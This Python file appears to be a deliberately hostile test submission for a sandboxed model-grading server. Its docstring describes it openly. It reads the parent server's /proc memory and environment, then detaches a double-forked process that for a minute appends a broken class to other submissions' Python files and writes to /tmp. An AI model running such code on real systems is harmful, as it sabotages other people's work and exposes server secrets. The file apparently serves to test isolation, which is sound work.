"""Hostile under a fork server: leaves a detached process behind (double fork + setsid) that, for
a minute, overwrites every Python file it can find in other submissions' folders with a model that
has the wrong number of classes, and drops files in /tmp; it also tries to read the server's memory
and environment. Defines a correct model itself."""
import glob
import os

import torch
import torch.nn as nn
import torch.nn.functional as F

SABOTAGE = "\nclass SimpleCNN(nn.Module):\n    pass\n"


def _spy() -> None:
    import time

    end = time.monotonic() + 60
    while time.monotonic() < end:
        for path in glob.glob("/grading/jobs/*/submission/*.py") + glob.glob("/tmp/cnn-grader-*/submission/*.py"):
            try:
                with open(path, "a") as f:
                    f.write(SABOTAGE)
            except OSError:
                pass
        try:
            with open("/tmp/spy-was-here", "w") as f:
                f.write("x")
        except OSError:
            pass
        time.sleep(0.02)


for what in ("mem", "environ"):
    try:
        with open(f"/proc/{os.getppid()}/{what}", "rb") as f:
            print(f"read the server's {what}:", len(f.read(64)), "bytes")
    except OSError as exc:
        print(f"cannot read the server's {what}: {type(exc).__name__}")

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _spy()
    os._exit(0)
os.wait()


class SimpleCNN(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv1 = nn.Conv2d(3, 16, kernel_size=3, padding=1)
        self.pool = nn.MaxPool2d(kernel_size=2, stride=2)
        self.conv2 = nn.Conv2d(16, 32, kernel_size=3, padding=1)
        self.fc1 = nn.Linear(32 * 8 * 8, 128)
        self.fc2 = nn.Linear(128, 10)

    def forward(self, x):
        x = self.pool(F.relu(self.conv1(x)))
        x = self.pool(F.relu(self.conv2(x)))
        x = torch.flatten(x, 1)
        x = F.relu(self.fc1(x))
        return self.fc2(x)
